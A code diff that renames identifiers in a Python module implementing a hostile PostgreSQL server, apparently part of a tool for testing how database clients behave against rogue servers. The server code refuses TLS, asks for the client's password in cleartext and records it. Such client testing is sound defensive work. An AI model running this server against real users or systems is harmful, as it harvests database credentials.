@@ -8,7 +8,7 @@ statement.
 import struct
 from collections.abc import Sequence
 
-from backwatch.attack.protocols.server import MOST_KEPT, HostileServer, Session
+from backwatch.attack.protocols.server import MAX_KEPT, HostileServer, ServerSession
 
 _SSL_REQUEST, _GSS_REQUEST, _CANCEL = 80877103, 80877104, 80877102
 _PASSWORD_IN_CLEAR = 3
@@ -29,7 +29,7 @@ class PostgreSQL(HostileServer):
     version = "15.10"
     """Version that the server announces."""
 
-    def serve(self, session: Session) -> None:
+    def serve(self, session: ServerSession) -> None:
         """Serve TLS, the login, then statements in both protocols."""
         if not self._start(session):
             return
@@ -44,15 +44,15 @@ class PostgreSQL(HostileServer):
         """Return whether the server agrees to TLS now."""
         return not self.hostile
 
-    def log_in(self, session: Session) -> None:
+    def log_in(self, session: ServerSession) -> None:
         """Request the user name; accept any login."""
         if self.hostile:
             self.take_password(session)
 
-    def take_password(self, session: Session) -> None:
+    def take_password(self, session: ServerSession) -> None:
         """Request the password in plaintext, and record it."""
         send(session, b"R", struct.pack("!I", _PASSWORD_IN_CLEAR))
-        self.taken(receive(session).rstrip(b"\0"))
+        self.on_leak(receive(session).rstrip(b"\0"))
 
     def parameters(self) -> dict[str, str]:
         """Return the parameters that the server reports after login."""
@@ -70,7 +70,7 @@ class PostgreSQL(HostileServer):
         """
         return (b"id", b"name", b"mail") if statement.lstrip()[:6].upper() == b"SELECT" else ()
 
-    def answers(self, session: Session, statement: bytes) -> bool:
+    def answers(self, session: ServerSession, statement: bytes) -> bool:
         """Respond to a statement in a special way, without ReadyForQuery.
 
         Returns:
@@ -82,7 +82,7 @@ class PostgreSQL(HostileServer):
         del session, statement
         return False
 
-    def _start(self, session: Session) -> bool:
+    def _start(self, session: ServerSession) -> bool:
         while True:
             (length,) = struct.unpack("!I", session.read(4))
             body = session.read(length - 4)
@@ -96,12 +96,12 @@ class PostgreSQL(HostileServer):
                 return code != _CANCEL
 
 
-def send(session: Session, kind: bytes, body: bytes = b"") -> None:
+def send(session: ServerSession, kind: bytes, body: bytes = b"") -> None:
     """Send one message to the client."""
     session.send(kind + struct.pack("!I", len(body) + 4) + body)
 
 
-def receive(session: Session) -> bytes:
+def receive(session: ServerSession) -> bytes:
     """Return the body of the client's next message."""
     session.read(1)
     (length,) = struct.unpack("!I", session.read(4))
@@ -126,7 +126,7 @@ class RefusedError(Exception):
 class _Conversation:
     """Statements and responses after login."""
 
-    def __init__(self, server: PostgreSQL, session: Session) -> None:
+    def __init__(self, server: PostgreSQL, session: ServerSession) -> None:
         self._server = server
         self._session = session
         self._prepared: dict[bytes, bytes] = {}
@@ -167,7 +167,7 @@ class _Conversation:
     def _extended(self, kind: bytes, body: bytes) -> None:
         if kind == b"P":
             name, statement, _ = body.split(b"\0", 2)
-            if len(self._prepared) >= MOST_KEPT:
+            if len(self._prepared) >= MAX_KEPT:
                 self._prepared.clear()
             self._prepared[name] = statement
             send(self._session, b"1")
